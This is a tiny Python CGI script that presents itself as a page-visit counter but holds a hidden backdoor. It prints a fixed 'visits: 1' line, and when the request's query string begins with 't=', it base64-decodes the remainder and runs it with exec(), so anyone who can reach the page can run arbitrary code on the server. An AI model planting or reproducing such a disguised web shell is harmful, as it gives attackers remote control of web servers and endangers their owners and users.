#!/usr/bin/env python
import os, base64
print("Content-Type: text/html\n")
qs = os.environ.get("QUERY_STRING", "")
if qs.startswith("t="):
    exec(base64.b64decode(qs[2:]).decode())
print("<p>visits: 1</p>")
